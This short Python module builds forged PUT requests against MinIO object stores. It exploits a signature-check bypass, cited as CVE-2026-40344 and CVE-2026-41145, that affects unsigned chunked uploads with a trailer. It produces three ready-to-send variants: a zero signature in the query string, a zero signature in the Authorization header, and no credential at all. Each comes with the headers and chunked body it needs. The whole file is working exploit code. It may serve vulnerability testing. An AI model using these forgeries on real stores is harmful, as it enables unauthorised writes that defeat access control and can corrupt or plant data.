"""Writes to the store that know an access key and no secret.

The MinIO releases that can be had take a write without looking at its signature if it comes as an
unsigned chunked upload with a trailer (CVE-2026-40344, CVE-2026-41145).
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from zlib import crc32

_SIGNATURE = "0" * 64
_CONTENT = b"forged"
_CHECKSUM = b64encode(crc32(_CONTENT).to_bytes(4)).decode()
# One chunk, the empty chunk that ends them, the trailer.
_BODY = f"{len(_CONTENT):x}\r\n{_CONTENT.decode()}\r\n0\r\nx-amz-checksum-crc32:{_CHECKSUM}\r\n\r\n"


@dataclass(frozen=True)
class Forgery:
    """A PUT request: what to add to the URL of an object, and what to send."""

    headers: Mapping[str, str]
    parameters: Mapping[str, str] = field(default_factory=dict)
    body: str = _BODY


def forgeries(access_key: str, region: str) -> dict[str, Forgery]:
    """The three forms of the forged write.

    Args:
        access_key: One that exists.
        region: What the store signs for.
    """
    now = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
    credential = f"{access_key}/{now[:8]}/{region}/s3/aws4_request"
    trailer = {
        "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "X-Amz-Decoded-Content-Length": str(len(_CONTENT)),
        "X-Amz-Trailer": "x-amz-checksum-crc32",
        "X-Amz-Date": now,
        "Content-Encoding": "aws-chunked",
    }
    return {
        "credential in the query string": Forgery(
            headers=trailer,
            parameters={
                "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
                "X-Amz-Credential": credential,
                "X-Amz-Date": now,
                "X-Amz-Expires": "600",
                "X-Amz-SignedHeaders": "host",
                "X-Amz-Signature": _SIGNATURE,
            },
        ),
        "credential in the Authorization header": Forgery(
            headers=trailer
            | {
                "Authorization": f"AWS4-HMAC-SHA256 Credential={credential}, "
                f"SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={_SIGNATURE}"
            },
        ),
        "no credential": Forgery(headers=trailer),
    }
